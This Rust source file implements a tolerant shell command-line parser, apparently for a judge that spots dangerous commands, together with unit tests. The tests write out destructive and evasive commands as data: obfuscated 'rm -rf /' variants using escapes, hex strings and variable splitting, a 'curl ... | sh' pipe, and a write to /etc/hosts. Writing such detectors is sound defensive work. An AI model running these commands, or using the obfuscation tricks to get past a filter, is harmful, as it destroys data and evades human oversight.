//! A tolerant POSIX shell reader: a command line as the shell would split it (quotes, escapes,
//! ANSI-C strings, variables, `$(...)`, pipes, lists, redirections, heredocs), so that a judge
//! sees the words that run rather than the characters that were typed.
//!
//! It never fails: a judge must read what an attacker sends, and the shell runs the prefix of a
//! malformed line anyway. An unterminated quote ends at the end of the text. It is written by
//! hand because the shell parsers on crates.io reject malformed input, return words before
//! quote removal, or bring an interpreter's worth of dependencies; none resolves simple
//! variables the way `a=rm; $a -rf /` needs.

use rustc_hash::FxHashMap;

/// Bounds on what one text can cost: nesting depth of substitutions and `sh -c` strings, and
/// the number of commands read.
pub const MAX_DEPTH: usize = 6;
const MAX_COMMANDS: usize = 512;

/// One word after quote removal.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Word {
    pub text: String,
    /// It holds an unquoted glob character (`*`, `?`, `[`).
    pub glob: bool,
    /// Part of it is only known when it runs: an unknown variable or a substitution's output.
    pub dynamic: bool,
    /// The command texts of the substitutions inside it (`$(...)`, backticks), whose output
    /// becomes part of the word.
    pub inner: Vec<String>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RedirectKind {
    /// `<`: the file is read.
    Read,
    /// `>`, `>>`, `>|`, `&>`: the file is written.
    Write,
    /// `>&2`, `2>&1`: a file descriptor, not a file.
    Duplicate,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    pub kind: RedirectKind,
    pub target: Word,
}

/// A simple command: its words, its redirections, and what it reads on standard input from a
/// heredoc or here-string.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Command {
    pub words: Vec<Word>,
    pub redirects: Vec<Redirect>,
    pub stdin_text: Option<String>,
    /// Its standard input is the previous command's output (`a | b`).
    pub piped: bool,
}

impl Command {
    pub fn argv(&self) -> impl Iterator<Item = &str> {
        self.words.iter().map(|w| w.text.as_str())
    }
}

/// A parsed text: its commands in order (a pipeline's commands are adjacent, later ones marked
/// `piped`), and the commands of every `$(...)`, backtick and process substitution, which run
/// too.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Script {
    pub commands: Vec<Command>,
    pub substitutions: Vec<Script>,
}

impl Script {
    /// Every command, substitutions included, depth first.
    pub fn all_commands(&self) -> Vec<&Command> {
        let mut out: Vec<&Command> = self.commands.iter().collect();
        for s in &self.substitutions {
            out.extend(s.all_commands());
        }
        out
    }
}

/// Reads `text` as a shell command line.
pub fn parse(text: &str) -> Script {
    parse_with(text, &mut FxHashMap::default(), 0)
}

fn parse_with(text: &str, vars: &mut FxHashMap<String, String>, depth: usize) -> Script {
    let mut p = Parser {
        chars: text.chars().collect(),
        at: 0,
        vars,
        depth,
        script: Script::default(),
        pending_heredocs: Vec::new(),
    };
    p.run();
    p.script
}

struct Parser<'v> {
    chars: Vec<char>,
    at: usize,
    vars: &'v mut FxHashMap<String, String>,
    depth: usize,
    script: Script,
    /// Heredocs announced on the current line: (command index, delimiter, strip tabs).
    pending_heredocs: Vec<(usize, String, bool)>,
}

const KEYWORDS: &[&str] = &[
    "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "for", "in", "case", "esac", "{",
    "}", "!",
];

impl Parser<'_> {
    fn peek(&self) -> Option<char> {
        self.chars.get(self.at).copied()
    }

    fn peek_at(&self, n: usize) -> Option<char> {
        self.chars.get(self.at + n).copied()
    }

    fn run(&mut self) {
        let mut command = Command::default();
        let mut piped = false;
        while self.at < self.chars.len() && self.script.commands.len() < MAX_COMMANDS {
            let Some(c) = self.peek() else { break };
            match c {
                ' ' | '\t' | '\r' => self.at += 1,
                '\\' if self.peek_at(1) == Some('\n') => self.at += 2,
                '\n' => {
                    self.at += 1;
                    self.finish(&mut command, &mut piped, false);
                    self.read_heredocs();
                }
                '#' => {
                    while self.peek().is_some_and(|c| c != '\n') {
                        self.at += 1;
                    }
                }
                ';' | '&' | '(' | ')' => {
                    // `&&`, `;;`, `&` and subshell parentheses all end a command; `&>` is a
                    // redirection.
                    if c == '&' && self.peek_at(1) == Some('>') {
                        self.at += 2;
                        self.redirect(&mut command, RedirectKind::Write);
                        continue;
                    }
                    self.at += 1;
                    if self.peek() == Some(c) {
                        self.at += 1;
                    }
                    self.finish(&mut command, &mut piped, false);
                }
                '|' => {
                    self.at += 1;
                    if self.peek() == Some('|') {
                        self.at += 1;
                        self.finish(&mut command, &mut piped, false);
                    } else {
                        if self.peek() == Some('&') {
                            self.at += 1;
                        }
                        self.finish(&mut command, &mut piped, true);
                    }
                }
                '<' | '>' if !self.process_substitution_ahead() => self.redirection(&mut command),
                d if d.is_ascii_digit() && self.fd_redirect_ahead() => {
                    self.at += 1;
                    self.redirection(&mut command);
                }
                _ => {
                    let word = self.word();
                    command.words.push(word);
                }
            }
        }
        self.finish(&mut command, &mut piped, false);
    }

    fn process_substitution_ahead(&self) -> bool {
        self.peek_at(1) == Some('(')
    }

    fn fd_redirect_ahead(&self) -> bool {
        matches!(self.peek_at(1), Some('<' | '>'))
            && self.at > 0
            && matches!(
                self.chars.get(self.at - 1),
                Some(' ' | '\t' | '\n' | ';' | '|' | '&')
            )
    }

    fn redirection(&mut self, command: &mut Command) {
        let c = self.peek();
        self.at += 1;
        match c {
            Some('<') => {
                if self.peek() == Some('<') {
                    self.at += 1;
                    if self.peek() == Some('<') {
                        // A here-string: the word is standard input.
                        self.at += 1;
                        self.skip_blanks();
                        let word = self.word();
                        command.stdin_text = Some(word.text);
                        return;
                    }
                    let strip = self.peek() == Some('-');
                    if strip {
                        self.at += 1;
                    }
                    self.skip_blanks();
                    let delimiter = self.word().text;
                    let index = self.script.commands.len();
                    self.pending_heredocs.push((index, delimiter, strip));
                    return;
                }
                if self.peek() == Some('&') {
                    self.at += 1;
                    self.redirect(command, RedirectKind::Duplicate);
                    return;
                }
                self.redirect(command, RedirectKind::Read);
            }
            _ => {
                if matches!(self.peek(), Some('>' | '|')) {
                    self.at += 1;
                }
                if self.peek() == Some('&') {
                    self.at += 1;
                    self.skip_blanks();
                    let fd = self.peek().is_some_and(|c| c.is_ascii_digit() || c == '-');
                    let kind = if fd {
                        RedirectKind::Duplicate
                    } else {
                        RedirectKind::Write
                    };
                    self.redirect(command, kind);
                    return;
                }
                self.redirect(command, RedirectKind::Write);
            }
        }
    }

    fn redirect(&mut self, command: &mut Command, kind: RedirectKind) {
        self.skip_blanks();
        let target = self.word();
        command.redirects.push(Redirect { kind, target });
    }

    fn skip_blanks(&mut self) {
        while matches!(self.peek(), Some(' ' | '\t')) {
            self.at += 1;
        }
    }

    fn finish(&mut self, command: &mut Command, piped: &mut bool, next_piped: bool) {
        let mut done = std::mem::take(command);
        // `for x in a b c` and `case x in` name values; they run nothing.
        let is_header = done
            .words
            .first()
            .is_some_and(|w| !w.dynamic && matches!(w.text.as_str(), "for" | "case" | "select"));
        // Leading keywords (`then rm -rf x`, `do ...`) are grammar, not the command.
        while done
            .words
            .first()
            .is_some_and(|w| !w.dynamic && KEYWORDS.contains(&w.text.as_str()))
        {
            done.words.remove(0);
        }
        // Assignments in front of a command (`a=rm`) set variables the rest of the text sees.
        let mut assigned = 0;
        for w in &done.words {
            match assignment(&w.text) {
                Some((name, value)) => {
                    self.vars.insert(name.to_string(), value.to_string());
                    assigned += 1;
                }
                None => break,
            }
        }
        done.words.drain(..assigned);
        let has_anything = !done.words.is_empty() || !done.redirects.is_empty();
        if has_anything && !is_header {
            done.piped = *piped;
            self.script.commands.push(done);
            *piped = next_piped;
        } else {
            *piped = next_piped && has_anything;
        }
    }

    /// Reads the bodies of the heredocs announced on the line just ended.
    fn read_heredocs(&mut self) {
        for (index, delimiter, strip) in std::mem::take(&mut self.pending_heredocs) {
            let mut body = String::new();
            loop {
                if self.at >= self.chars.len() {
                    break;
                }
                let start = self.at;
                while self.peek().is_some_and(|c| c != '\n') {
                    self.at += 1;
                }
                let line: String = self.chars[start..self.at].iter().collect();
                if self.peek() == Some('\n') {
                    self.at += 1;
                }
                let compared = if strip {
                    line.trim_start_matches('\t')
                } else {
                    &line
                };
                if compared.trim_end() == delimiter {
                    break;
                }
                body.push_str(compared);
                body.push('\n');
            }
            if let Some(command) = self.script.commands.get_mut(index) {
                command.stdin_text = Some(body);
            }
        }
    }

    /// Reads one word, removing quotes and escapes and expanding what can be known.
    fn word(&mut self) -> Word {
        let mut word = Word::default();
        while let Some(c) = self.peek() {
            match c {
                ' ' | '\t' | '\n' | '\r' | ';' | '&' | '|' | ')' => break,
                '(' if word.text.is_empty() => break,
                '<' | '>' if self.peek_at(1) == Some('(') => {
                    // Process substitution: `<(curl ...)` runs its command.
                    self.at += 2;
                    let inner = self.balanced(')');
                    self.substitute(&inner);
                    word.inner.push(inner);
                    word.text.push_str("/dev/fd/63");
                    word.dynamic = true;
                }
                '<' | '>' => break,
                '\\' => {
                    self.at += 1;
                    match self.peek() {
                        Some('\n') => self.at += 1,
                        Some(next) => {
                            word.text.push(next);
                            self.at += 1;
                        }
                        None => {}
                    }
                }
                '\'' => {
                    self.at += 1;
                    while let Some(q) = self.peek() {
                        self.at += 1;
                        if q == '\'' {
                            break;
                        }
                        word.text.push(q);
                    }
                }
                '"' => {
                    self.at += 1;
                    self.double_quoted(&mut word);
                }
                '$' => self.dollar(&mut word, false),
                '`' => self.backticks(&mut word),
                '*' | '?' | '[' => {
                    word.glob = true;
                    word.text.push(c);
                    self.at += 1;
                }
                _ => {
                    word.text.push(c);
                    self.at += 1;
                }
            }
        }
        word
    }

    fn double_quoted(&mut self, word: &mut Word) {
        while let Some(c) = self.peek() {
            match c {
                '"' => {
                    self.at += 1;
                    return;
                }
                '\\' => {
                    self.at += 1;
                    match self.peek() {
                        Some(n @ ('"' | '\\' | '$' | '`')) => {
                            word.text.push(n);
                            self.at += 1;
                        }
                        Some('\n') => self.at += 1,
                        _ => word.text.push('\\'),
                    }
                }
                '$' => self.dollar(word, true),
                '`' => self.backticks(word),
                _ => {
                    word.text.push(c);
                    self.at += 1;
                }
            }
        }
    }

    /// A backtick substitution: its commands run, and its output becomes part of the word.
    fn backticks(&mut self, word: &mut Word) {
        self.at += 1;
        let start = self.at;
        while self.peek().is_some_and(|q| q != '`') {
            if self.peek() == Some('\\') {
                self.at += 1;
            }
            self.at += 1;
        }
        let end = self.at.min(self.chars.len());
        let inner: String = self.chars[start..end].iter().collect();
        self.at += 1;
        self.substitute(&inner);
        word.inner.push(inner);
        word.dynamic = true;
    }

    /// `$name`, `${name}`, `$(...)`, `$((...))`, `$'...'` and `$"..."`.
    fn dollar(&mut self, word: &mut Word, quoted: bool) {
        self.at += 1;
        match self.peek() {
            Some('\'') if !quoted => {
                self.at += 1;
                let start = self.at;
                while let Some(c) = self.peek() {
                    if c == '\\' {
                        self.at += 2;
                        continue;
                    }
                    if c == '\'' {
                        break;
                    }
                    self.at += 1;
                }
                let end = self.at.min(self.chars.len());
                let raw: String = self.chars[start..end].iter().collect();
                self.at += 1;
                word.text.push_str(&super::decode::ansi_c(&raw));
            }
            Some('"') if !quoted => {
                self.at += 1;
                self.double_quoted(word);
            }
            Some('(') => {
                self.at += 1;
                if self.peek() == Some('(') {
                    self.at += 1;
                    let _arithmetic = self.balanced(')');
                    self.at += 1;
                    word.text.push('0');
                    word.dynamic = true;
                    return;
                }
                let inner = self.balanced(')');
                self.substitute(&inner);
                word.inner.push(inner);
                word.dynamic = true;
            }
            Some('{') => {
                self.at += 1;
                let inner = self.balanced('}');
                let name: String = inner
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                    .collect();
                match self.vars.get(&name) {
                    Some(value) if name.len() == inner.len() => word.text.push_str(value),
                    _ => {
                        // `${x:-default}`: the default is what runs when x is unset.
                        if let Some((_, default)) = inner.split_once(":-").or_else(|| inner.split_once('-'))
                            && !self.vars.contains_key(&name)
                        {
                            word.text.push_str(default);
                        } else {
                            word.text.push_str(&format!("${{{inner}}}"));
                        }
                        word.dynamic = true;
                    }
                }
            }
            Some(c) if c.is_ascii_alphabetic() || c == '_' => {
                let start = self.at;
                while self.peek().is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') {
                    self.at += 1;
                }
                let name: String = self.chars[start..self.at].iter().collect();
                match self.vars.get(&name) {
                    Some(value) => word.text.push_str(value),
                    None => {
                        word.text.push('$');
                        word.text.push_str(&name);
                        word.dynamic = true;
                    }
                }
            }
            Some(c) if c.is_ascii_digit() || "@*#?$!-".contains(c) => {
                self.at += 1;
                word.text.push('$');
                word.text.push(c);
                word.dynamic = true;
            }
            _ => word.text.push('$'),
        }
    }

    /// The text up to the `close` that balances the one just opened (quotes respected); the
    /// cursor is left on `close`.
    fn balanced(&mut self, close: char) -> String {
        let open = if close == ')' { '(' } else { '{' };
        let start = self.at;
        let mut depth = 0usize;
        while let Some(c) = self.peek() {
            match c {
                '\\' => self.at += 1,
                '\'' => {
                    self.at += 1;
                    while self.peek().is_some_and(|q| q != '\'') {
                        self.at += 1;
                    }
                }
                '"' => {
                    self.at += 1;
                    while self.peek().is_some_and(|q| q != '"') {
                        if self.peek() == Some('\\') {
                            self.at += 1;
                        }
                        self.at += 1;
                    }
                }
                c if c == open => depth += 1,
                c if c == close => {
                    if depth == 0 {
                        break;
                    }
                    depth -= 1;
                }
                _ => {}
            }
            self.at += 1;
        }
        let end = self.at.min(self.chars.len());
        let inner: String = self.chars[start..end].iter().collect();
        if self.peek() == Some(close) {
            self.at += 1;
        }
        inner
    }

    fn substitute(&mut self, inner: &str) {
        if self.depth >= MAX_DEPTH {
            return;
        }
        let nested = parse_with(inner, self.vars, self.depth + 1);
        self.script.substitutions.push(nested);
    }
}

/// `name=value` as a shell assignment.
fn assignment(word: &str) -> Option<(&str, &str)> {
    let (name, value) = word.split_once('=')?;
    let valid = !name.is_empty()
        && name
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
    valid.then_some((name, value))
}

/// Parses a string the shell will run (`sh -c`, `eval`), sharing nothing with the caller.
pub fn parse_nested(text: &str, depth: usize) -> Script {
    parse_with(text, &mut FxHashMap::default(), depth)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argvs(text: &str) -> Vec<Vec<String>> {
        parse(text)
            .all_commands()
            .iter()
            .map(|c| c.argv().map(str::to_string).collect())
            .collect()
    }

    #[test]
    fn quotes_and_escapes_are_removed() {
        assert_eq!(argvs(r"r\m -rf /"), vec![vec!["rm", "-rf", "/"]]);
        assert_eq!(argvs("r''m -r\"\"f x"), vec![vec!["rm", "-rf", "x"]]);
        assert_eq!(argvs(r#""r"'m' "a b""#), vec![vec!["rm", "a b"]]);
        assert_eq!(argvs(r"$'\x72\x6d' -rf /srv"), vec![vec!["rm", "-rf", "/srv"]]);
        assert_eq!(argvs(r"$'\162\155' x"), vec![vec!["rm", "x"]]);
    }

    #[test]
    fn lists_pipes_and_substitutions_are_commands() {
        assert_eq!(
            argvs("cd /srv && ls | wc -l; echo $(whoami) `id`"),
            vec![
                vec!["cd", "/srv"],
                vec!["ls"],
                vec!["wc", "-l"],
                vec!["echo", "", ""],
                vec!["whoami"],
                vec!["id"]
            ]
        );
        let s = parse("curl -s http://x | sh");
        assert!(s.commands[1].piped);
        assert!(!s.commands[0].piped);
    }

    #[test]
    fn variables_resolve_when_known() {
        assert_eq!(
            argvs("a=rm; b=-rf; $a $b /data"),
            vec![vec!["rm", "-rf", "/data"]]
        );
        assert_eq!(argvs("x=r;y=m; ${x}${y} f"), vec![vec!["rm", "f"]]);
        let s = parse("$CMD -rf /");
        assert!(s.commands[0].words[0].dynamic);
    }

    #[test]
    fn redirections_and_heredocs() {
        let s = parse("echo hi > /etc/hosts 2>&1");
        assert_eq!(s.commands[0].redirects[0].kind, RedirectKind::Write);
        assert_eq!(s.commands[0].redirects[0].target.text, "/etc/hosts");
        assert_eq!(s.commands[0].redirects[1].kind, RedirectKind::Duplicate);
        let s = parse("bash <<'EOF'\nrm -rf /srv\nEOF\nls");
        assert_eq!(s.commands[0].stdin_text.as_deref(), Some("rm -rf /srv\n"));
        assert_eq!(s.commands[1].argv().collect::<Vec<_>>(), vec!["ls"]);
        let s = parse("bash <<< 'rm -rf /'");
        assert_eq!(s.commands[0].stdin_text.as_deref(), Some("rm -rf /"));
    }

    #[test]
    fn keywords_and_comments_are_grammar() {
        assert_eq!(
            argvs("for f in a b; do rm -rf \"$f\"; done # tidy"),
            vec![vec!["rm", "-rf", "$f"]]
        );
        assert_eq!(
            argvs("if true; then shutdown now; fi"),
            vec![vec!["true"], vec!["shutdown", "now"]]
        );
    }

    #[test]
    fn malformed_input_is_read_to_its_end() {
        assert_eq!(argvs("echo 'unterminated"), vec![vec!["echo", "unterminated"]]);
        assert_eq!(
            argvs("echo $(rm -rf /"),
            vec![vec!["echo", ""], vec!["rm", "-rf", "/"]]
        );
        let deep = "$(".repeat(100) + "rm" + &")".repeat(100);
        let _ = parse(&deep);
    }
}
